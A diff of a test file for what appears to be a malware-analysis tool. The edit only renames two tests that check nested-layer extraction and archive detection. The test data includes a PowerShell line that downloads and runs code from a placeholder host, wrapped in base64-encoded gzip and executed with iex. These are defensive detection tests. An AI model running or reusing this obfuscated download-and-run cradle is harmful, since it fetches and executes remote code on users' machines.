@@ -27,7 +27,7 @@ describe('what is taken out of a file', () => {
     expect(Buffer.from(extracted[0]?.bytes ?? []).toString('latin1')).toContain(source);
   });
 
-  test('is every layer of a script, the innermost too', async () => {
+  test('is every layer of a script, with the innermost one', async () => {
     const inner = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a')";
     const middle = `$x = '${gzipSync(inner).toString('base64')}'; iex $x`;
     const { extracted = [], findings } = await analyse(
@@ -38,7 +38,7 @@ describe('what is taken out of a file', () => {
     expect(findings.map(({ id }) => id)).toContain('code-downloads-and-runs');
   });
 
-  test('is named with the way to it, however deep it lies', async () => {
+  test('is named with the path to it, at any depth', async () => {
     const archive = HOSTILE_DOCUMENTS.find(({ technique }) => technique === 'archive in an archive in an archive');
     if (archive === undefined) throw new Error('the sample is missing');
     const { findings } = await analyse(bytesOf(archive), archive.name);
